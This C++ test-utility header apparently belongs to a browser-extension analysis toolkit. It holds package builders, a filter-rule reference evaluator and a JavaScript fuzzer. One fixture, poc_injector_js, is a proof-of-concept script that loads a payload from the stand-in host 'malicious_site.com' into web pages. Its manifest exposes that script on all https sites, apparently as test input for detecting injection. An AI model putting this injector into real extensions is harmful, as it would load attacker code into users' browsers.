#pragma once

#include <atomic>
#include <filesystem>
#include <fstream>
#include <map>
#include <random>
#include <regex>
#include <string>
#include <unistd.h>
#include <vector>

#include "mv3/filter.hpp"
#include "mv3/model.hpp"

namespace testutil {

inline mv3::ExtensionPackage make_package(std::map<std::string, std::string> files) {
    mv3::ExtensionPackage pkg;
    pkg.manifest = mv3::parse_manifest(files.at("manifest.json"));
    pkg.version = pkg.manifest.version;
    pkg.id = mv3::ExtensionId::from_content_hash(files);
    pkg.files = std::move(files);
    return pkg;
}

// Listing-style proof-of-concept injector: a WAR-declared file that builds a
// script element pointed at a remote host and appends it.
inline std::string poc_injector_js() {
    return
        "// (a) injects_3rd_party.js\n"
        "(function (e) {\n"
        "    var site = \"//malicious_site.com\";\n"
        "    var script = e.createElement(\"script\");\n"
        "    script.src = \"https:\" + site + \"/js/malicious_3rd_party_payload.js\";\n"
        "    (e.head || e.body).appendChild(script)\n"
        "}) (window, document);\n";
}

inline std::string poc_manifest_v3() {
    return
        "{\n"
        "  \"manifest_version\": 3,\n"
        "  \"name\": \"poc\",\n"
        "  \"version\": \"1.0\",\n"
        "  \"content_security_policy\": {\n"
        "    \"extension_pages\": \"script-src 'self'; object-src 'self'\"},\n"
        "  \"web_accessible_resources\": [\n"
        "    {\"resources\": [\"src/injects_3rd_party.js\"],\n"
        "      \"matches\": [\"https://*/*\"]}]\n"
        "}\n";
}

inline mv3::ExtensionPackage poc_package_v3() {
    return make_package({{"manifest.json", poc_manifest_v3()},
                         {"src/injects_3rd_party.js", poc_injector_js()}});
}

// Temporary directory that cleans up after itself.
class TempDir {
public:
    explicit TempDir(const std::string& tag) {
        static std::atomic<int> counter{0};
        path_ = std::filesystem::temp_directory_path() /
                ("mv3kit_test_" + tag + "_" + std::to_string(::getpid()) + "_" +
                 std::to_string(counter.fetch_add(1)));
        std::filesystem::create_directories(path_);
    }
    ~TempDir() {
        std::error_code ec;
        std::filesystem::remove_all(path_, ec);
    }
    const std::filesystem::path& path() const { return path_; }

private:
    std::filesystem::path path_;
};

inline void write_file(const std::filesystem::path& path, std::string_view content) {
    std::filesystem::create_directories(path.parent_path());
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out.write(content.data(), static_cast<std::streamsize>(content.size()));
}

inline std::string read_file(const std::filesystem::path& path) {
    std::ifstream in(path, std::ios::binary);
    return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

// ---------------------------------------------------------------------------
// Independent reference evaluator for filter rules: expands the pattern into
// a std::regex character-class automaton and enumerates anchor-legal start
// positions.  Shares nothing with mv3::abp::matches beyond URL splitting.
// ---------------------------------------------------------------------------

inline std::string atom_regex(const mv3::abp::FilterRule::Atom& atom) {
    using Kind = mv3::abp::FilterRule::Atom::Kind;
    switch (atom.kind) {
        case Kind::Wildcard:
            return ".*";
        case Kind::Separator:
            return "(?:[^a-zA-Z0-9_.%-]|$)";
        case Kind::Literal: {
            static const std::string meta = R"(\^$.|?*+()[]{})";
            std::string out;
            if (meta.find(atom.ch) != std::string::npos) out += '\\';
            out += atom.ch;
            return out;
        }
    }
    return "";
}

inline bool oracle_matches(const mv3::abp::FilterRule& rule, const std::string& url) {
    const mv3::abp::UrlParts parts = mv3::abp::parse_url(url);
    const std::string& full = parts.full;

    std::string body;
    for (const auto& atom : rule.atoms) body += atom_regex(atom);
    const std::regex re("^(?:" + body + ")" + (rule.end_anchor ? "$" : ""),
                        std::regex::ECMAScript);

    std::vector<std::size_t> starts;
    switch (rule.anchor) {
        case mv3::abp::FilterRule::Anchor::Start:
            starts.push_back(0);
            break;
        case mv3::abp::FilterRule::Anchor::Domain: {
            starts.push_back(parts.host_begin);
            for (std::size_t i = 0; i < parts.host.size(); ++i)
                if (parts.host[i] == '.') starts.push_back(parts.host_begin + i + 1);
            break;
        }
        case mv3::abp::FilterRule::Anchor::None:
            for (std::size_t i = 0; i <= full.size(); ++i) starts.push_back(i);
            break;
    }
    for (std::size_t s : starts) {
        const std::string tail = full.substr(s);
        if (std::regex_search(tail, re)) return true;
    }
    return false;
}

// ---------------------------------------------------------------------------
// Seeded pseudo-random JS-ish text generator for the lexer property tests.
// ---------------------------------------------------------------------------

class JsFuzzer {
public:
    explicit JsFuzzer(std::uint32_t seed) : rng_(seed) {}

    std::string next() {
        const int fragments = 1 + static_cast<int>(rng_() % 40);
        std::string out;
        for (int i = 0; i < fragments; ++i) out += fragment();
        return out;
    }

private:
    std::string fragment() {
        switch (rng_() % 16) {
            case 0: return ident();
            case 1: return " ";
            case 2: return "\n";
            case 3: return "\"" + inner() + "\"";
            case 4: return "'" + inner() + "'";
            case 5: return "`" + inner() + "${" + ident() + "}`";
            case 6: return "// " + ident();
            case 7: return "/* " + ident() + " */";
            case 8: return std::to_string(rng_() % 100000);
            case 9: return op();
            case 10: return "." + ident();
            case 11: return "(" + ident() + ")";
            case 12: return "=/" + ident() + "/g";  // regex context
            case 13: return "\"unterminated";
            case 14: return "`open ${" + ident();
            case 15: return "0x" + std::to_string(rng_() % 4096) + "e" + std::to_string(rng_() % 9);
        }
        return " ";
    }

    std::string ident() {
        static const char* pool[] = {"eval",  "fetch", "chrome", "tabs",   "executeScript",
                                     "a",     "b1",    "_x",     "$y",     "XMLHttpRequest",
                                     "site",  "src",   "window", "return", "new"};
        return pool[rng_() % (sizeof(pool) / sizeof(pool[0]))];
    }

    std::string inner() {
        switch (rng_() % 6) {
            case 0: return "eval(x)";
            case 1: return "chrome.tabs.executeScript";
            case 2: return "\\\"esc\\\"";
            case 3: return "line\\nbreak";
            case 4: return "plain text";
            case 5: return "//host/path;{}";
        }
        return "";
    }

    std::string op() {
        static const char* pool[] = {"+", "-",  "*",  "/", "=", "==", "===", ";", ",",
                                     "{", "}",  "[",  "]", "?", ":",  "=>", "&&", "||",
                                     "!", "++", "--", "<", ">"};
        return pool[rng_() % (sizeof(pool) / sizeof(pool[0]))];
    }

    std::mt19937 rng_;
};

}  // namespace testutil
